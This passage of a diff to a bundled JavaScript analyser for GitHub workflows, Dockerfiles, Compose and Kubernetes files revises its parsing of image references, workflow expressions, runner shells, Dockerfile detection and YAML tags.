-    const colon = masked.indexOf(':', lastSlash + 1);
-    const tagAt = colon >= 0 && colon < nameEnd ? colon : -1;
-    if (tagAt >= 0 && !tagForm.test(masked.slice(tagAt + 1, nameEnd)))
-        return null;
-    const pathEnd = tagAt < 0 ? nameEnd : tagAt;
-    const firstSlash = masked.indexOf('/');
-    const hasRegistry = firstSlash > 0 && firstSlash < pathEnd && isRegistry(masked.slice(0, firstSlash));
-    if (hasRegistry && !registryForm.test(masked.slice(0, firstSlash)))
-        return null;
-    const pathStart = hasRegistry ? firstSlash + 1 : 0;
-    if (!pathForm.test(masked.slice(pathStart, pathEnd)))
-        return null;
-    return {
-        registry: hasRegistry ? part(0, firstSlash) : null,
-        repository: part(pathStart, pathEnd),
-        tag: tagAt < 0 ? null : part(tagAt + 1, nameEnd),
-        digest: digestAt < 0 ? null : part(digestAt + 1, masked.length),
-    };
-}
-/** The grain for a reference with variables, or null where the text is no reference. */
-function expandedImage(source, { value, complete, verbatim, place }) {
-    const parsed = parseImage(value);
-    if (!parsed)
-        return null;
-    const placed = (part) => ({ value: part.value, span: place(part.span.start, part.span.end) });
-    return {
-        ...source,
-        text: value,
-        registry: parsed.registry && placed(parsed.registry),
-        repository: placed(parsed.repository),
-        tag: parsed.tag && placed(parsed.tag),
-        digest: parsed.digest && placed(parsed.digest),
-        unresolved: !complete || isOpen(value),
-        whole: verbatim ? place(0, value.length) : null,
-    };
-}
-/** The grain for a reference that is written out at its place; where quotes or escapes are in between, its parts have the place of the whole. */
-function imageReference(source) {
-    const { text, ...rest } = source;
-    const { start } = source.span;
-    const verbatim = source.document.text.slice(source.span) === text;
-    const place = (from, to) => (verbatim ? { start: start + from, end: start + to } : source.span);
-    return expandedImage(rest, { value: text, complete: true, verbatim, place });
-}
-
-;// CONCATENATED MODULE: ./lib/documents/caseless.js
-const caseless_known = new WeakMap();
-/** A map's value by its key, for names that know no case: contexts, inputs, variables. An exact key goes before others. */
-function caselessValue(map, name) {
-    if (map?.kind !== 'map')
-        return undefined;
-    const exact = map.at(name);
-    if (exact !== undefined)
-        return exact;
-    let values = caseless_known.get(map);
-    if (values === undefined) {
-        values = new Map(map.entries.map(({ key, value }) => [key.string.toLowerCase(), value]));
-        caseless_known.set(map, values);
-    }
-    return values.get(name.toLowerCase());
-}
-
 ;// CONCATENATED MODULE: ./lib/documents/expression-fold.js
 const nothing = new Map();
 /** The value of an expression by GitHub's coercions; undefined where it depends on more than what is known. */
@@ -35517,10 +35871,65 @@ function foldJson(text) {
     }
 }
 
+;// CONCATENATED MODULE: ./lib/documents/expression-literals.js
+
+/** The texts written in an expression that it can give, as one or as items of a list (`fromJSON('["a"]')`), with what is known of contexts. */
+function* yieldedTexts(expression, known) {
+    if (expression.kind === 'operation' && expression.operator === '&&') {
+        const last = expression.operands.at(-1);
+        if (last && expression.operands.every((operand) => truth(operand, known) !== false))
+            yield* yieldedTexts(last, known);
+    }
+    else if (expression.kind === 'operation' && expression.operator === '||') {
+        for (const operand of expression.operands) {
+            yield* yieldedTexts(operand, known);
+            if (truth(operand, known) === true)
+                return;
+        }
+    }
+    else if (expression.kind === 'call' && expression.name === 'fromjson') {
+        const [text] = expression.arguments;
+        if (text)
+            for (const json of yieldedTexts(text, known))
+                yield* textsInJson(json);
+    }
+    else {
+        const value = fold(expression, known);
+        if (typeof value === 'string')
+            yield value;
+    }
+}
+function textsInJson(json) {
+    try {
+        const value = JSON.parse(json);
+        return [value].flat().filter((each) => typeof each === 'string');
+    }
+    catch {
+        return [];
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/documents/caseless.js
+const caseless_known = new WeakMap();
+/** A map's value by its key, for names that know no case: contexts, inputs, variables. An exact key goes before others. */
+function caselessValue(map, name) {
+    if (map?.kind !== 'map')
+        return undefined;
+    const exact = map.at(name);
+    if (exact !== undefined)
+        return exact;
+    let values = caseless_known.get(map);
+    if (values === undefined) {
+        values = new Map(map.entries.map(({ key, value }) => [key.string.toLowerCase(), value]));
+        caseless_known.set(map, values);
+    }
+    return values.get(name.toLowerCase());
+}
+
 ;// CONCATENATED MODULE: ./lib/documents/expression-paths.js
 
 /** Functions whose result is made of the text of these arguments. The results of all others (`contains`, `hashFiles`, `success`) are their own. */
-const passing = new Map([
+const expression_paths_passing = new Map([
     ['format', (args) => args],
     ['join', (args) => args],
     ['fromjson', (args) => args],
@@ -35529,26 +35938,27 @@ const passing = new Map([
 ]);
 /**
  * The contexts whose text can become the text of the expression. Comparisons and negations give booleans; of `a && b` the text can
- * only be that of `b`, since a falsy `a` has none that matters; a constant condition is decided.
+ * only be that of `b`, since a falsy `a` has none that matters; a constant condition is decided. Of `(a || b).c` it is that of `a.c` or `b.c`, given by `below`;
+ * what a function makes has properties of its own.
  */
-function* yieldedPaths(expression, whole = false) {
+function* yieldedPaths(expression, whole = false, below = []) {
     if (expression.kind === 'literal')
         return;
     if (expression.kind === 'access')
-        yield* accessPaths(expression, whole);
+        yield* accessPaths(expression, whole, below);
     else if (expression.kind === 'call') {
-        for (const argument of passing.get(expression.name)?.(expression.arguments) ?? [])
+        for (const argument of expression_paths_passing.get(expression.name)?.(expression.arguments) ?? [])
             yield* yieldedPaths(argument, whole || expression.name === 'tojson');
     }
     else if (expression.operator === '&&') {
         const last = expression.operands.at(-1);
         const never = expression.operands.some((operand) => truth(operand) === false);
         if (last !== undefined && !never)
-            yield* yieldedPaths(last, whole);
+            yield* yieldedPaths(last, whole, below);
     }
     else if (expression.operator === '||') {
         for (const operand of expression.operands) {
-            yield* yieldedPaths(operand, whole);
+            yield* yieldedPaths(operand, whole, below);
             if (truth(operand) === true)
                 return;
         }
@@ -35571,11 +35981,12 @@ function* readPaths(expression) {
             for (const found of readPaths(part))
                 yield whole ? { ...found, whole } : found;
 }
-function* accessPaths(access, whole) {
+function* accessPaths(access, whole, below) {
+    const path = [...accessPath(access), ...below];
     if (typeof access.base === 'string')
-        yield { path: accessPath(access), span: access.span, whole };
+        yield { path, span: access.span, whole };
     else
-        yield* yieldedPaths(access.base, whole);
+        yield* yieldedPaths(access.base, whole, path);
 }
 
 ;// CONCATENATED MODULE: ./lib/documents/yaml-values.js
@@ -35633,13 +36044,262 @@ function matrixItems(job, expression) {
     const isKnown = [own, include].every((node) => node === undefined || node.kind === 'sequence');
     return { items, complete: isKnown && items.length > 0 && !items.some((item) => item.string?.includes('${{')) };
 }
-/** Its scalars, those too that are only known when the job runs. */
-const matrixNodes = (job, expression) => matrixItems(job, expression).items.filter((node) => node.kind === 'scalar');
+/** The scalars that can become its text: its values, and the expression that makes them when the job runs (`matrix: ${{ fromJSON(…) }}`). */
+function matrixNodes(job, expression) {
+    const [found] = yieldedPaths(expression);
+    const matrix = job.at('strategy', 'matrix');
+    const made = [matrix, caselessValue(matrix, found?.path[1] ?? ''), matrix?.at('include')];
+    return [...matrixItems(job, expression).items, ...made].filter((node) => node?.kind === 'scalar');
+}
 /** The same where all of it is known, else null. */
 function matrixValues(job, expression) {
     const { items, complete } = matrixItems(job, expression);
     const nodes = items.filter((node) => node.kind === 'scalar');
     return complete && nodes.length === items.length ? nodes : null;
+}
+
+;// CONCATENATED MODULE: ./lib/documents/workflow-runner.js
+
+
+
+
+/**
+ * The labels that `runs-on` asks for: a string, a list, or `labels` below a group. Values of the matrix are put in where they are known, and of
+ * another expression the texts that it can give; where none is written in it, it stands for itself.
+ */
+function runnerLabels(job, known = new Map()) {
+    const runsOn = job.at('runs-on');
+    return scalars(runsOn?.kind === 'map' ? runsOn.at('labels') : runsOn).flatMap((node) => expanded(job, node, known));
+}
+const scalars = (node) => (node?.kind === 'scalar' ? [node] : scalarsIn(node));
+function expanded(job, node, known) {
+    const asWritten = [{ value: node.string, node }];
+    const [fence] = findExpressions(node.string);
+    const isAlone = fence !== undefined && fence.span.start === 0 && fence.span.end === node.string.length;
+    if (!isAlone || !fence.expression)
+        return asWritten;
+    const { items, complete } = matrixItems(job, fence.expression);
+    if (complete)
+        return items.flatMap(scalars).map((label) => ({ value: label.string, node: label }));
+    const texts = [...yieldedTexts(fence.expression, known)];
+    return texts.length > 0 ? texts.map((value) => ({ value, node })) : asWritten;
+}
+
+;// CONCATENATED MODULE: ./lib/documents/workflow-shell.js
+
+
+
+
+
+/** The shell that runs the step: its own, the defaults of the job and the workflow, or the runner's. */
+function shellLanguage({ job, at }) {
+    const shell = at('shell') ?? job?.at('defaults', 'run', 'shell') ?? job?.workflow.at('defaults', 'run', 'shell');
+    if (shell?.string === undefined || shell.string.includes('${{')) {
+        const labels = job ? runnerLabels(job) : [];
+        return labels.length > 0 && labels.every(({ value }) => value.toLowerCase().includes('windows')) ? 'powershell' : 'posix';
+    }
+    if (/\b(?:pwsh|powershell)\b/i.test(shell.string))
+        return 'powershell';
+    if (/^cmd\b/i.test(shell.string))
+        return 'cmd';
+    return /\b(?:ba|da|z|k|a)?sh\b/.test(shell.string) ? 'posix' : 'other';
+}
+const workflow_shell_parsed = new WeakMap();
+/** The commands of a step's `run` at the top of its script, spans in the file; none where it is no POSIX shell. An expression is read as a variable. */
+function stepCommands(step) {
+    let commands = workflow_shell_parsed.get(step);
+    if (commands === undefined) {
+        const { run, document } = step;
+        const locate = (at) => (run ? spanWithin(run, document.text, { start: at, end: at }).start : 0);
+        commands = run && shellLanguage(step) === 'posix' ? parseShell(maskExpressions(run.string), locate) : [];
+        workflow_shell_parsed.set(step, commands);
+    }
+    return commands;
+}
+/** All commands of a step's script, those of substitutions and inner scripts too. */
+const stepInvocations = (step) => [...everyCommand(stepCommands(step))];
+/** Each `${{ … }}` as a variable of the same length, so that its quotes and braces do not count. */
+function maskExpressions(script) {
+    let masked = '';
+    for (const { span } of findExpressions(script))
+        masked += `${script.slice(masked.length, span.start)}\${${'_'.repeat(span.end - span.start - 3)}}`;
+    return masked + script.slice(masked.length);
+}
+
+;// CONCATENATED MODULE: ./lib/documents/shell-scripts.js
+
+
+const buildScripts = (instructions) => instructions
+    .filter(({ keyword }) => keyword === 'RUN')
+    .map((instruction) => {
+    const { subject, span, document } = instruction;
+    return { subject, span, document, runsIn: 'build', invocations: invocations(instruction) };
+});
+const stepScripts = (steps) => steps.flatMap((step) => {
+    const { subject, document, run } = step;
+    return run ? [{ subject, span: run.span, document, runsIn: 'workflow', invocations: stepInvocations(step) }] : [];
+});
+
+;// CONCATENATED MODULE: ./lib/documents/workflow-expressions.js
+
+
+
+/** Every expression of a workflow, each with the step and the job that it stands in. A value behind an alias counts once for each of them. */
+function* workflowExpressions(workflow) {
+    const owner = { subject: workflow.subject, step: null, job: null, workflow, action: null };
+    yield* below(workflow.root, [], owner, new Set([...workflow.jobs.map((job) => job.node)]));
+    for (const job of workflow.jobs) {
+        const within = { ...owner, subject: job.subject, job };
+        yield* below(job.node, ['jobs', job.id], within, new Set(job.steps.map((step) => step.node)));
+        for (const [index, step] of job.steps.entries())
+            yield* below(step.node, ['jobs', job.id, 'steps', index], { ...within, subject: step.subject, step }, new Set());
+    }
+}
+function* actionExpressions(action) {
+    const owner = { subject: action.subject, step: null, job: null, workflow: null, action };
+    yield* below(action.root, [], owner, new Set(action.steps.map((step) => step.node)));
+    for (const [index, step] of action.steps.entries())
+        yield* below(step.node, ['runs', 'steps', index], { ...owner, subject: step.subject, step }, new Set());
+}
+/** `seen` starts with what is read on its own; a node that aliases bring twice is read once. */
+function* below(node, path, owner, seen) {
+    if (node.kind === 'scalar') {
+        yield* inScalar(node, path, owner);
+        return;
+    }
+    const children = node.kind === 'sequence'
+        ? node.items.map((item, index) => [index, item.value])
+        : [
+            ...node.entries.map(({ key, value }) => [key.string, value]),
+            ...node.merged.flatMap((map) => map.entries.map((entry) => [entry.key.string, entry.value])),
+        ];
+    for (const [key, child] of children) {
+        if (seen.has(child))
+            continue;
+        seen.add(child);
+        yield* below(child, [...path, key], owner, seen);
+    }
+}
+function* inScalar(scalar, path, owner) {
+    const fenced = scalar.string.includes('${{');
+    if (!fenced && path.at(-1) !== 'if')
+        return;
+    const { document } = owner.workflow ?? owner.action ?? {};
+    if (document === undefined)
+        return;
+    const placeOf = (part) => spanWithin(scalar, document.text, part);
+    if (!fenced) {
+        const expression = parseExpression(scalar.string);
+        yield { ...owner, span: scalar.span, document, scalar, text: scalar.string, expression, path, placeOf };
+        return;
+    }
+    for (const { span, text, expression } of fencesOf(scalar))
+        yield { ...owner, span: placeOf(span), document, scalar, text, expression, path, placeOf };
+}
+
+;// CONCATENATED MODULE: ./lib/documents/image.js
+const expressions = [
+    ['${{', '}}'],
+    ['{{', '}}'],
+    ['${', '}'],
+    ['$(', ')'],
+    ['<%', '%>'],
+];
+/** Stands for one character of a variable or a template; no reference holds it. */
+const hole = '\u0001';
+/** The text with every variable and template action (`$X`, `${X:-y}`, `{{ … }}`, `$(X)`, `%X%`) overwritten, at the same length. */
+function image_maskExpressions(text) {
+    if (!/[{$<%]/.test(text))
+        return text;
+    let masked = '';
+    const unclosed = new Set();
+    for (let at = 0; at < text.length;) {
+        const end = expressionEnd(text, at, unclosed);
+        masked += end > at ? hole.repeat(end - at) : (text[at] ?? '');
+        at = Math.max(end, at + 1);
+    }
+    return masked;
+}
+/** `unclosed` keeps the openings that nothing closes any more, so that each is searched for once. */
+function expressionEnd(text, at, unclosed) {
+    for (const [open, close] of expressions) {
+        if (!text.startsWith(open, at) || unclosed.has(open))
+            continue;
+        const end = text.indexOf(close, at + open.length);
+        if (end >= 0)
+            return end + close.length;
+        unclosed.add(open);
+    }
+    const variable = /\$[A-Za-z_]\w*|%[A-Za-z_]\w*%/y;
+    variable.lastIndex = at;
+    return variable.test(text) ? variable.lastIndex : at;
+}
+/** Holds a variable or a template action. */
+const isOpen = (text) => image_maskExpressions(text).includes(hole);
+const digestForm = /^[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}$/;
+const pathForm = /^[A-Za-z0-9\u0001][A-Za-z0-9._\-/\u0001]*$/;
+const tagForm = /^[\w\u0001][\w.\-\u0001]*$/;
+const registryForm = /^(?:\[[0-9a-fA-F:.]+\]|[A-Za-z0-9\u0001][A-Za-z0-9.\-_\u0001]*)(?::[\d\u0001]+)?$/;
+/** A first component names a registry only if it has a dot or a port, or is `localhost`: else it is a Docker Hub user. */
+const isRegistry = (component) => /[.:]/.test(component) || component === 'localhost';
+/**
+ * Splits a reference by the distribution grammar: `[domain[:port]/]path[:tag][@digest]`. Variables and template actions may stand in
+ * any part and are kept as written. Null where the text is no reference. Upper case is let through: the registry refuses it, not the reader.
+ */
+function parseImage(text, offset = 0) {
+    const masked = image_maskExpressions(text);
+    const part = (start, end) => ({
+        value: text.slice(start, end),
+        span: { start: offset + start, end: offset + end },
+    });
+    const digestAt = masked.indexOf('@');
+    const nameEnd = digestAt < 0 ? masked.length : digestAt;
+    if (digestAt >= 0 && !digestForm.test(masked.slice(digestAt + 1)) && !masked.includes(hole, digestAt))
+        return null;
+    const lastSlash = masked.lastIndexOf('/', nameEnd - 1);
+    const colon = masked.indexOf(':', lastSlash + 1);
+    const tagAt = colon >= 0 && colon < nameEnd ? colon : -1;
+    if (tagAt >= 0 && !tagForm.test(masked.slice(tagAt + 1, nameEnd)))
+        return null;
+    const pathEnd = tagAt < 0 ? nameEnd : tagAt;
+    const firstSlash = masked.indexOf('/');
+    const hasRegistry = firstSlash > 0 && firstSlash < pathEnd && isRegistry(masked.slice(0, firstSlash));
+    if (hasRegistry && !registryForm.test(masked.slice(0, firstSlash)))
+        return null;
+    const pathStart = hasRegistry ? firstSlash + 1 : 0;
+    if (!pathForm.test(masked.slice(pathStart, pathEnd)))
+        return null;
+    return {
+        registry: hasRegistry ? part(0, firstSlash) : null,
+        repository: part(pathStart, pathEnd),
+        tag: tagAt < 0 ? null : part(tagAt + 1, nameEnd),
+        digest: digestAt < 0 ? null : part(digestAt + 1, masked.length),
+    };
+}
+/** The grain for a reference with variables, or null where the text is no reference. */
+function expandedImage(source, { value, complete, verbatim, place }) {
+    const parsed = parseImage(value);
+    if (!parsed)
+        return null;
+    const placed = (part) => ({ value: part.value, span: place(part.span.start, part.span.end) });
+    return {
+        ...source,
+        text: value,
+        registry: parsed.registry && placed(parsed.registry),
+        repository: placed(parsed.repository),
+        tag: parsed.tag && placed(parsed.tag),
+        digest: parsed.digest && placed(parsed.digest),
+        unresolved: !complete || isOpen(value),
+        whole: verbatim ? place(0, value.length) : null,
+    };
+}
+/** The grain for a reference that is written out at its place; where quotes or escapes are in between, its parts have the place of the whole. */
+function imageReference(source) {
+    const { text, ...rest } = source;
+    const { start } = source.span;
+    const verbatim = source.document.text.slice(source.span) === text;
+    const place = (from, to) => (verbatim ? { start: start + from, end: start + to } : source.span);
+    return expandedImage(rest, { value: text, complete: true, verbatim, place });
 }
 
 ;// CONCATENATED MODULE: ./lib/documents/workflow-images.js
@@ -35794,6 +36454,7 @@ function* variables(owner) {
 
 
 
+
 /** `action.yml` of a composite, JavaScript or container action. */
 const actionFormat = {
     kind: 'action',
@@ -35812,6 +36473,7 @@ function actionGrains(document, documents) {
     return {
         actionFile: action,
         step: steps,
+        shellScript: () => stepScripts(steps()),
         actionReference: () => steps().flatMap((step) => step.reference ?? []),
         imageReference: () => action().flatMap(actionImages),
         workflowExpression: () => action().flatMap((each) => [...actionExpressions(each)]),
@@ -35873,7 +36535,7 @@ function readDirectives(value, lines) {
     }
     return { escape: escapeChar, syntax };
 }
-const isBlank = (text) => text.trim() === '';
+const dockerfile_lines_isBlank = (text) => text.trim() === '';
 const isComment = (text) => text.trimStart().startsWith('#');
 /** Length of the line without a continuation mark, or -1 where the instruction ends here. Two escape characters are no mark. */
 function continuationAt(text, escapeChar) {
@@ -35890,7 +36552,7 @@ function logicalLines(value, escapeChar, lines) {
         if (!first)
             break;
         const text = value.slice(first.start, first.end);
-        if (isBlank(text) || isComment(text)) {
+        if (dockerfile_lines_isBlank(text) || isComment(text)) {
             at++;
             continue;
         }
@@ -35917,7 +36579,7 @@ function join(value, escapeChar, lines, first) {
             break;
         const text = value.slice(line.start, line.end);
         const gap = line.start - start - length;
-        if (at > first && (isComment(text) || isBlank(text))) {
+        if (at > first && (isComment(text) || dockerfile_lines_isBlank(text))) {
             if (at === lines.length - 1)
                 break;
             parts.push(filler.repeat(gap + text.length));
@@ -35968,6 +36630,8 @@ const unquoted = (text) => text.replace(/(<<-?)?(?:"(?:[^"\\]|\\.)*(?:"|$)|'[^']
 ;// CONCATENATED MODULE: ./lib/documents/dockerfile-variables.js
 
 const unknown = () => undefined;
+/** Variables that have a value without an ARG that gives it one. */
+const isSetByBuildKit = (name) => /^(?:BUILD|TARGET)(?:PLATFORM|OS|OSVERSION|ARCH|VARIANT)$|^TARGETSTAGE$|_PROXY$/i.test(name);
 const dockerfile_variables_maxDepth = 10;
 /** Defaults that name each other can double at every step; what grows past this is left as written. */
 const maxGrowth = 10_000;
@@ -36368,7 +37032,7 @@ function composeGrains(document, documents) {
         return files;
     };
     const services = () => read().flatMap((file) => file.services);
-    return { composeFile: read, composeService: services, imageReference: () => read().flatMap((file) => [...imagesOf(file)]) };
+    return { composeFile: read, composeService: services, imageReference: () => read().flatMap((file) => [...compose_imagesOf(file)]) };
 }
 function compose_readFile(document, root) {
     const entries = new Map();
@@ -36379,7 +37043,7 @@ function compose_readFile(document, root) {
     return { subject: 'Compose file', span: root.span, document, root, services };
 }
 /** What a service with `build` names is the image that it makes, not one that is pulled. */
-function* imagesOf(file) {
+function* compose_imagesOf(file) {
     const own = new Set(file.services.flatMap((service) => (service.at('build') ? (service.at('image')?.string ?? []) : [])));
     for (const service of file.services) {
         const image = service.at('image');
@@ -36727,7 +37391,7 @@ function readScript(rest, line, heredocs, context) {
 }
 const isForeign = (text) => text.startsWith('#!') && !/^#!\s*\S*(?:\/|env\s+)(?:ba|da|a|z|k)?sh\b/.test(text);
 /** The language that RUN has after this SHELL. */
-function shellLanguage(shell) {
+function dockerfile_instruction_shellLanguage(shell) {
     const name = shell.words[0]?.value.replaceAll('\\', '/').split('/').at(-1)?.toLowerCase() ?? '';
     return /^(?:powershell|pwsh|cmd)(?:\.exe)?$/.test(name.replaceAll(filler, '')) ? 'other' : 'posix';
 }
@@ -40624,6 +41288,9 @@ var CHOMPING_KEEP = CHOMPING_MODE.KEEP;
 
 /** Stands for each character of a template action in the text that is parsed. A private-use character: printable for YAML, and in no real file by chance. */
 const templateMark = '\uE000';
+/** In short and in full; whatever the quotes, a parser of Go takes the value for what its tag says. */
+const coreTag = /^(?:!!|!<tag:yaml\.org,2002:)(\w+)>?$/;
+const resolved = new Set(['bool', 'int', 'float', 'null']);
 const styles = ['plain', 'plain', 'single', 'double', 'literal', 'folded'];
 const yamlTrue = /^(?:y|Y|yes|Yes|YES|true|True|TRUE|on|On|ON)$/;
 const yamlFalse = /^(?:n|N|no|No|NO|false|False|FALSE|off|Off|OFF)$/;
@@ -40650,6 +41317,14 @@ class Scalar {
         return this.#string;
     }
     #read() {
+        const written = this.#decoded();
+        return this.#type === 'binary' ? Buffer.from(written, 'base64').toString('utf8') : written;
+    }
+    /** What a tag of YAML's own says that the value is. */
+    get #type() {
+        return this.tag === null ? undefined : coreTag.exec(this.tag)?.[1];
+    }
+    #decoded() {
         if (this.#event === null)
             return this.#source.parsed.slice(this.span.start, this.span.end);
         if (this.templated && this.style === 'plain')
@@ -40658,12 +41333,16 @@ class Scalar {
         return getScalarValue(this.templated ? this.#source.original : this.#source.parsed, this.#event);
     }
     get value() {
-        if (this.style !== 'plain' || (this.tag !== null && !/int|float|bool|null/.test(this.tag)))
-            return this.string;
-        return coreValue(this.string);
+        const type = this.#type;
+        if (type === 'bool' && this.boolean !== undefined)
+            return this.boolean;
+        return type === undefined ? this.#untagged : resolved.has(type) ? coreValue(this.string) : this.string;
+    }
+    get #untagged() {
+        return this.style !== 'plain' || this.tag !== null ? this.string : coreValue(this.string);
     }
     get boolean() {
-        if (this.style !== 'plain' || (this.tag !== null && this.tag !== '!!bool'))
+        if (this.tag === null ? this.style !== 'plain' : this.#type !== 'bool')
             return undefined;
         return yamlTrue.test(this.string) ? true : yamlFalse.test(this.string) ? false : undefined;
     }
@@ -40736,12 +41415,22 @@ class Sequence extends Collection {
 const yaml_parse_maxDepth = 100;
 /** Nodes after aliases are followed: a few anchors can stand for billions of them (a "billion laughs" file). */
 const maxNodes = 2_000_000;
+/** Whether a problem is one of too much, not of what is written. */
+const isLimit = (message) => /nesting exceeded|aliases stand for/.test(message);
 /**
  * Reads a stream of YAML (or JSON) documents into trees in which every key and value has its span.
  * A broken document is told as a problem, and the others of the stream are still read.
  * @param parsed the text with template actions masked, of the same length; by default the text itself
  */
 function parseYaml(text, parsed = text.value) {
+    const { documents, problems } = parseStream(text, parsed);
+    const renaming = /^%TAG\b.*/m.exec(parsed);
+    if (renaming === null)
+        return { documents, problems };
+    const span = { start: renaming.index, end: renaming.index + renaming[0].length };
+    return { documents, problems: [{ message: 'YAML cannot be read: %TAG gives tags another meaning', span }, ...problems] };
+}
+function parseStream(text, parsed) {
     const source = { parsed, original: text.value };
     try {
         return new Builder(source, 0).build(parseEvents(parsed, { maxDepth: yaml_parse_maxDepth }));
@@ -41219,7 +41908,7 @@ function coveredLine({ text }, line) {
 
 
 /** A document whose grains are made on first use. Every document has the grains `file` and `waiver`. */
-function makeDocument({ text, kind, partial = false, problems = [], unread, readers }) {
+function makeDocument({ text, kind, partial = false, problems = [], unread = null, readers }) {
     const made = new Map();
     let formatReaders;
     const document = {
@@ -41256,24 +41945,33 @@ function commonReaders(document) {
 
 
 
+
+
 const templateName = /\.(?:j2|jinja2?|tmpl|tpl|gotmpl|template|erb|mustache|hbs|in|m4)$/i;
 /** On a line of their own or in FROM; in RUN they are commonly a format for `docker inspect` and the like. */
 const templateMarks = /^[ \t]*(?:\{\{|\{%|<%)|^[ \t]*FROM[ \t][^\n]*(?:\{\{|\{%|<%)/im;
 const exactName = /^(?:dockerfile|containerfile)$/i;
 const dockerfileName = /^(?:dockerfile|containerfile)(?:[.\-_].+)?$|[.\-_](?:dockerfile|containerfile)$/i;
 const otherFile = /\.(?:md|rst|adoc|html?|go|[cm]?[jt]sx?|py|rb|java|kt|rs|php|cs|sh|bats|json|ya?ml|toml|lock|sum|svg|png|dockerignore|containerignore)$/i;
+/** Without blanks and dots at its end, which some file systems drop. */
+const dockerfile_nameOf = (path) => path.slice(path.lastIndexOf('/') + 1).replace(/[\s.]+$/, '');
+const isDockerfileName = (path) => dockerfileName.test(dockerfile_nameOf(path).replace(templateName, '')) && !otherFile.test(dockerfile_nameOf(path));
+/** FROM before all else but comments and ARG, and an instruction after it: `docker build -f` takes a file of any name. */
+const startsAsDockerfile = (text) => /^(?:\uFEFF?(?:[ \t]*(?:#.*|ARG[ \t].*)?\r?\n)*)FROM[ \t]+(?:--platform=\S+[ \t]+)?[^\s,;]+(?:[ \t]+AS[ \t]+\S+)?[ \t]*\r?\n/.test(text) && /^(?:RUN|CMD|ENTRYPOINT|COPY|ADD|USER|WORKDIR|ENV)[ \t]+\S/m.test(text);
 /**
- * By name (`Dockerfile`, `Containerfile`, templates of them), or by a `# syntax=` directive on the first line. Under a longer name (`Dockerfile.dev`,
- * `api.dockerfile`) there is all sorts, such as the settings of an editor: what is a Dockerfile begins with an instruction.
+ * By name (`Dockerfile`, `Containerfile`, templates of them), by a `# syntax=` directive on the first line, or, where the name says nothing, by how it
+ * begins. Under a longer name (`Dockerfile.dev`, `api.dockerfile`) there is all sorts, such as the settings of an editor: what is a Dockerfile begins
+ * with an instruction.
  */
 function recognizesDockerfile(path, text) {
-    const name = path.slice(path.lastIndexOf('/') + 1);
+    const name = dockerfile_nameOf(path);
     if (otherFile.test(name))
         return false;
     if (/^\uFEFF?#\s*syntax\s*=\s*\S*dockerfile/i.test(text))
         return true;
-    const plain = name.replace(templateName, '');
-    return dockerfileName.test(plain) && (exactName.test(plain) || templateMarks.test(text) || beginsWithInstruction(text));
+    return isDockerfileName(path)
+        ? exactName.test(name.replace(templateName, '')) || templateMarks.test(text) || beginsWithInstruction(text)
+        : !name.includes('.') && startsAsDockerfile(text);
 }
 function beginsWithInstruction(text) {
     const [, word = ''] = /^\uFEFF?(?:[ \t]*(?:#[^\n]*)?\r?\n)*[ \t]*([^\s#][^\s]*)/.exec(text) ?? [];
@@ -41286,7 +41984,7 @@ function readDockerfile(text) {
     const lines = physicalLines(text.value);
     const directives = readDirectives(text.value, lines);
     const logical = logicalLines(text.value, directives.escape, lines);
-    const isFragment = !exactName.test(text.path.slice(text.path.lastIndexOf('/') + 1)) && !logical.some((line) => keywordOf(line).toUpperCase() === 'FROM');
+    const isFragment = !exactName.test(dockerfile_nameOf(text.path)) && !logical.some((line) => keywordOf(line).toUpperCase() === 'FROM');
     const partial = isFragment || templateName.test(text.path) || templateMarks.test(text.value);
     let model;
     return makeDocument({
@@ -41299,10 +41997,12 @@ function readDockerfile(text) {
                 model ??= new Reader(document, directives).read(logical);
                 return model;
             };
+            const instructions = () => read().instructions.flatMap((each) => [each, ...(each.onbuild ? [each.onbuild] : [])]);
             return {
                 dockerfile: () => [read()],
                 stage: () => read().stages,
-                instruction: () => read().instructions.flatMap((instruction) => [instruction, ...(instruction.onbuild ? [instruction.onbuild] : [])]),
+                instruction: instructions,
+                shellScript: () => buildScripts(instructions()),
                 imageReference: () => dockerfileImages(read()),
             };
         },
@@ -41330,8 +42030,6 @@ function problemsOf(lines) {
         problems.push({ message: 'the Dockerfile has no FROM', span: { start: 0, end: 0 } });
     return problems;
 }
-/** Variables that BuildKit sets by itself; any other that no ARG before the first FROM names is empty in FROM. */
-const mayBeGiven = (name) => /^(?:BUILD|TARGET)(?:PLATFORM|OS|OSVERSION|ARCH|VARIANT)$|^TARGETSTAGE$|_PROXY$/i.test(name);
 class Reader {
     #document;
     #directives;
@@ -41377,7 +42075,9 @@ class Reader {
     #openStage(line, order, final) {
         this.#language = 'posix';
         const context = this.#context(this.#globals, null, 'Dockerfile', order);
-        const lookup = (name) => (this.#globals.has(name) || mayBeGiven(name) || this.#document.partial ? context.lookup(name) : '');
+        // Any other that no ARG before the first FROM names is empty in FROM.
+        const mayBeGiven = (name) => this.#globals.has(name) || isSetByBuildKit(name) || this.#document.partial;
+        const lookup = (name) => (mayBeGiven(name) ? context.lookup(name) : '');
         const stage = new DockerfileStage(this.#document, final, (self) => readInstruction(line, { ...context, stage: self, lookup }));
         stage.join(this.#names.get(stage.resolved.value.toLowerCase()) ?? null, this.#globals);
         this.#instructions.push(stage.from);
@@ -41390,7 +42090,7 @@ class Reader {
         const scope = stage?.scope ?? this.#globals;
         const instruction = readInstruction(line, this.#context(scope, stage, stage?.subject ?? 'Dockerfile', order));
         if (instruction.keyword === 'SHELL')
-            this.#language = shellLanguage(instruction);
+            this.#language = dockerfile_instruction_shellLanguage(instruction);
         scope.add(instruction, order);
         this.#instructions.push(instruction);
         stage?.instructions.push(instruction);
@@ -41595,11 +42295,12 @@ const templates = {
     DeploymentConfig: ['spec', 'template'],
     Rollout: ['spec', 'template'],
 };
-/** Where a custom resource with pods of its own mostly has them (Knative, OpenKruise, Kubeflow, agent sandboxes …). */
+/** Where a custom resource with pods of its own mostly has them (Knative, OpenKruise, Kubeflow, KEDA, agent sandboxes …). */
 const customTemplates = [
     ['spec', 'template'],
     ['spec', 'podTemplate'],
     ['spec', 'jobTemplate', 'spec', 'template'],
+    ['spec', 'jobTargetRef', 'template'],
 ];
 function podOf(root, group, kind) {
     if (kind === 'Revision' && group === 'serving.knative.dev')
@@ -41670,18 +42371,19 @@ class KubernetesResource {
     anchor;
     subject;
     partial;
-    /** `root` is a map whose `apiVersion` and `kind` are scalars. */
-    constructor(document, root) {
